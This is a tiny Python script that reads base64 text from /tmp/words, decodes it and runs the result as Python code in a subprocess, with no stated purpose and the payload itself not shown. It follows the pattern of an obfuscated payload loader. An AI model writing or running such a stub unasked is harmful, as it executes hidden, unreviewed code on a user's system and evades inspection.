import base64
import subprocess
import sys

with open("/tmp/words") as file:
    subprocess.run([sys.executable, "-"], input=base64.b64decode(file.read()), check=False)
